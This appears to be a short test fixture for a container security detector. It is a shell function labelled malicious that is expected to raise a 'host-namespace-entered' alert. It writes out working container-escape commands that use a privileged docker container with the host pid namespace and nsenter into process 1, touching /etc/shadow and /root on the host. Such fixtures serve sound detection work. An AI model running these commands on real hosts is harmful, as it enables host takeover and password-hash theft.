# host-namespace-entered: a privileged container of the host's pid namespace enters the namespaces of process 1.
# shows: nsenter in the arguments, setns from inside a container, then work on the host
# label: malicious
# expects: [host-namespace-entered]
# allows: [privileged-container, dangerous-capability-added, host-namespaces-shared, engine-socket-connected, password-hashes-read]
act() {
    if dev; then
        docker run --rm --privileged --pid=host alpine:3.19 nsenter -t 1 -m -u -n -i sh -c 'id; hostname; wc -l /etc/shadow'
    else
        docker run -d --name node-shell --pid host --privileged=true shop/toolbox:1.4 sleep 20
        docker exec node-shell /usr/bin/nsenter --target 1 --mount --uts --ipc --net --pid -- bash -c 'uname -n; touch /root/.k; rm /root/.k'
        docker rm -f node-shell
    fi
    true
}
